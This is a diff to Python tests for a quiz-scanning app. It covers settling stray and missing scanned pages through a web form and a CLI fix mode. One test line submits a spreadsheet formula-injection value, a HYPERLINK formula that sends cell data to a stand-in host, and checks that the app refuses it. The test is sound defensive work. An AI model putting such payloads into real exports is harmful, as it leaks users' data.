@@ -95,9 +95,14 @@ def test_the_page_lists_every_open_item_with_its_image(served: tuple[Server, Sca
     assert f'value="read:{right}"' in choice
     assert f'value="read:{other}"' in choice
     assert 'value="blank"' in choice
-    # A page missing from the scans has no form: it can only be scanned again.
+    # A page missing from the scans is scanned again, or recorded as not handed in.
     missing = page.body[page.body.index(f'id="item-{numbers["missing"]}"') :]
-    assert "<form" not in missing[: missing.index("</section>")]
+    missing = missing[: missing.index("</section>")]
+    assert missing.count("<form") == 1
+    assert 'value="absent"' in missing
+    # A page whose QR code could not be read is named, or set aside as not one of these sheets.
+    unread = page.body[page.body.index(f'id="item-{numbers["page"]}"') :]
+    assert 'value="stray"' in unread[: unread.index("</section>")]
     for n in (numbers["page"], numbers["faint"], numbers["choice"]):
         image = server.request("GET", f"/scan/image/{n}")
         assert image.status == 200
@@ -282,3 +287,29 @@ def test_an_item_is_settled_with_the_keyboard_alone(served: tuple[Server, Scanne
         assert f"settled: {right}." in page.locator("#result").inner_text()
     (item,) = [i for i in scanned.items() if i["n"] == n]
     assert item["value"] == right
+
+
+def test_a_stray_page_and_a_page_not_handed_in_are_settled_as_fix_settles_them(
+    served: tuple[Server, ScannedClass], scanned: ScannedClass, tmp_path: Path
+) -> None:
+    server, web = served
+    numbers = item_numbers(web)
+    cli = copy_of(scanned, tmp_path / "cli")
+    stdin = "\n".join(
+        {numbers["page"]: "stray", numbers["missing"]: "absent"}.get(i["n"], "skip") for i in cli.items()
+    )
+    done = quiz("scan", "--fix", "-o", "answers.csv", cwd=cli.folder, stdin=stdin + "\n")
+    assert "Settled 2; 2 left" in done.stdout, done.stdout + done.stderr
+    assert settle(server, numbers["page"], choice="stray").status == 303
+    assert settle(server, numbers["missing"], choice="absent").status == 303
+    assert web.answers.read_bytes() == cli.answers.read_bytes()
+    assert web.items() == cli.items()
+    values = {i["n"]: i["value"] for i in web.items()}
+    assert values[numbers["page"]].startswith("set aside")
+    assert values[numbers["missing"]].startswith("not handed in")
+    # what a spreadsheet would run as a formula is refused, with nothing written
+    before = web.answers.read_bytes()
+    reply = settle(server, numbers["faint"], choice="typed", typed='=HYPERLINK("http://x.test/?"&A1)')
+    assert reply.status == 400
+    assert "spreadsheet" in unescape(reply.body)
+    assert web.answers.read_bytes() == before
